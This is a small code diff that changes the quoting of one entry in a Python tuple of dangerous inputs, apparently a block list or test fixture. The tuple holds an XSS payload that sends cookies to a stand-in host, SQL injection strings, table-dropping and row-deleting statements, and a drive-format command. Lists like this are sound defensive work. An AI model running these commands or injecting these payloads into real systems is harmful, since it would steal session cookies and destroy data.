@@ -35,7 +35,7 @@ COMMANDS = (
     "<script>fetch('http://x.test?c='+document.cookie)</script>",
     "query: 'drop table users'",
     "DROP TABLE IF EXISTS album;",
-    "cursor.execute(\"DELETE FROM orders\")",
+    'cursor.execute("DELETE FROM orders")',
     "x'; delete from users where 1=1 --",
     "'; insert into users values (1) /*",
     "format c: /q",
